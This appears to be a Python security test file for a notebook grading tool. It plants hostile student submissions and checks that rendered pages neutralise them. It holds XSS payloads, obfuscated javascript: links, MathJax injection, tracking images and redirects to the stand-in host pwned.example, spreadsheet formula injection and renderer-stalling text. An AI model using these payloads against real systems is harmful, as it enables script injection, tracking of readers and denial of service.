# Attacks on the pages that students and instructors read; docs/arsenal.md describes the format.

from tests.security.hostile.arsenal import ONE_RIGHT_ANSWER, code_cell, fill_release, text_cell, write_notebook

# %% attack="active_outputs" threats=[20]
# title: Displays HTML, JavaScript, SVG, LaTeX, PDF, widgets and Markdown with scripts
# expect: Outputs are kept as plain text and pictures only
# honest: mean_squared_error
# points: mean_squared_error=3
EVIL = "<script>pwned()</script><img src=x onerror=pwned()>"
KINDS = (
    "text/html", "application/javascript", "image/svg+xml", "text/latex", "text/markdown",
    "application/pdf", "application/json", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid",
)
for kind in KINDS:
    display({kind: EVIL, "text/plain": "shown"}, raw=True, metadata={kind: {"isolated": True, "width": EVIL}})


class Shown:
    def _repr_html_(self): return EVIL
    def _repr_javascript_(self): return EVIL
    def _repr_mimebundle_(self, **options): return {"text/html": EVIL, "text/plain": EVIL}


Shown()


# %% attack="escape_storm" threats=[10, 20]
# title: Prints half a megabyte of colour changes, each of which costs the page's maker a copy of the rest
# expect: So many are not kept, and the page is made at once
# honest: mean_squared_error
# points: mean_squared_error=3
print("\x1b[m" * 130_000)
print("\x1b[" + "1;" * 50_000, "\r" * 10_000, "\x08" * 10_000)


# %% attack="false_pictures" threats=[20]
# title: Displays pictures that are none: text that breaks out of the page's attribute, SVG, megabytes of nothing
# expect: A picture is base64 of its kind, or it is dropped
# honest: mean_squared_error
# points: mean_squared_error=3
EVIL = "x\" onerror=\"pwned()\"><script>pwned()</script><img src=\""
for kind in ("image/png", "image/jpeg"):
    display({kind: EVIL}, raw=True, metadata={kind: {"width": EVIL, "height": "1 onerror=pwned()"}})
    display({kind: b"<svg onload=pwned()>"}, raw=True, metadata={"filenames": {kind: "https://pwned.example/x.png"}})


# %% attack="formulas" threats=[20]
# title: Has MathJax link, style, fetch and run
# expect: Formulas compute nothing and lead nowhere
# points: mean_squared_error=3
EVIL = r"""$\href{javascript:pwned()}{x}$ $$\require{html}\style{background:url(https://pwned.example)}{x}$$
\begin{align}\unicode{x3c}\class{x}{y}\cssId{z}{\href {javascript:pwned()}{q}}\end{align}
\\(\href{javascript:pwned()}{x}\\) $\text{<script>pwned()</script>}$ $<img src=x onerror=pwned()>$
$$</p><script>pwned()</script>$$ $\def\h#1{\hr#1}\h{ef}{javascript:pwned()}$"""


def hand_in(release, folder):
    notebook = fill_release(release)
    notebook["cells"].append(text_cell(EVIL))
    write_notebook(folder, notebook)


# %% attack="links" threats=[20]
# title: Links to scripts and data, in every disguise, and fetches pictures that tell who reads
# expect: Links lead to pages only; no picture is fetched
# points: mean_squared_error=3
EVIL = """[a](javascript:pwned()) [b](JaVa&#115;cript&colon;pwned()) [c](data:text/html,<script>pwned()</script>)
[d]: javascript:pwned()
[d] <javascript:pwned()> ![e](https://pwned.example/e.png) ![f](data:image/svg+xml,<svg onload=pwned()>)
[g](\x01javascript:pwned()) [h](java\tscript:pwned()) [i](vbscript:pwned())
<a href="&#x6a;avascript:pwned()">j</a> <a href="//pwned.example" target=_blank ping="https://pwned.example">k</a>
"""


def hand_in(release, folder):
    notebook = fill_release(release)
    cell = text_cell(EVIL + "![z](attachment:z.svg)")
    cell["attachments"] = {"z.svg": {"image/svg+xml": "<svg onload=pwned()/>"}}
    notebook["cells"].append(cell)
    write_notebook(folder, notebook)


# %% attack="markup_in_tracebacks" threats=[20, 23]
# title: Raises exceptions whose names and texts are HTML and escape sequences
# expect: A traceback is text
# honest: mean_squared_error
# points: mean_squared_error=3
EVIL = "</pre><script>pwned()</script>\x1b]8;;javascript:pwned()\x07\x1b[31m<img src=x onerror=pwned()>\x1b[38;2;1;1;1m"
print(EVIL)
raise type(EVIL, (Exception,), {})(EVIL)


# %% attack="old_headings" threats=[20]
# title: Uses cell types of old formats: headings and HTML cells with scripts
# expect: They are text, and nothing in them acts
# points: mean_squared_error=3
def hand_in(release, folder):
    notebook = fill_release(release)
    for kind in ("heading", "html", "text/html", "HTML", "markdown "):
        notebook["cells"].append(text_cell("<script>pwned()</script><a href='javascript:pwned()'>x</a>", kind))
    write_notebook(folder, notebook)


# %% attack="raw_cells" threats=[20]
# title: Puts HTML into raw cells, which pages hand through as they are
# expect: Nothing in a raw cell acts on a page
# points: mean_squared_error=3
def hand_in(release, folder):
    notebook = fill_release(release)
    raw = text_cell("<script>pwned()</script><img src=x onerror=pwned()>", "raw")
    raw["metadata"] = {"raw_mimetype": "text/html", "format": "text/html"}
    plain = text_cell("<script>pwned()</script><img src=x onerror=pwned()>", "raw")
    notebook["cells"] += [raw, plain]
    notebook["cells"][:0] = [plain]
    write_notebook(folder, notebook)


# %% attack="scripts_in_text" threats=[20]
# title: Puts scripts, handlers, frames, forms and styles into text cells and the answer to the question
# expect: Nothing in a text acts on a page
# points: mean_squared_error=3
EVIL = """<script>pwned()</script><img src=x onerror=pwned()><svg onload=pwned()></svg>
<iframe srcdoc="<script>pwned()</script>"></iframe><style>@import "https://pwned.example/";</style>
<form action="https://pwned.example/"><button formaction="javascript:pwned()">x</button></form>
<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></table></mtext></math>
<base href="https://pwned.example/"><meta http-equiv="refresh" content="0;url=https://pwned.example/">
<details open ontoggle=pwned()><object data="https://pwned.example/"></object></details>"""


def hand_in(release, folder):
    notebook = fill_release(release, ONE_RIGHT_ANSWER + "\n# %% why_not_accuracy\n" + EVIL)
    notebook["cells"] += [text_cell(EVIL), text_cell("> " + EVIL.replace("\n", " ")), text_cell("|a|\n|-|\n|" + EVIL.replace("\n", "") + "|")]
    write_notebook(folder, notebook)


# %% attack="spreadsheet_formulas" threats=[20] tells=["renamed"]
# title: Prints formulas for the instructor's spreadsheet, and names a file so
# expect: No table that is exported holds anything of a student's but points
# points: mean_squared_error=3
EVIL = "=HYPERLINK(\"https://pwned.example\"),@SUM(1+1)*cmd"


def hand_in(release, folder):
    notebook = fill_release(release)
    notebook["cells"].append(code_cell(f"print({EVIL!r})"))
    write_notebook(folder, notebook, "=cmd,@SUM(1).ipynb")


# %% attack="text_that_takes_hours" threats=[10, 20]
# title: Writes half a megabyte of text in which a Markdown reader starts again at every character
# expect: Such text is shown as it is, and the grader does not wait
# points: mean_squared_error=3
PATTERNS = ("\\begin{a}", "\\\\(", "*a ", "$a", "[a](", "<a ", "![", "_a _", "> ", "a|", "`` `")


def hand_in(release, folder):
    notebook = fill_release(release)
    notebook["cells"] += [text_cell((p * 100_000)[:100_000]) for p in PATTERNS]
    write_notebook(folder, notebook)
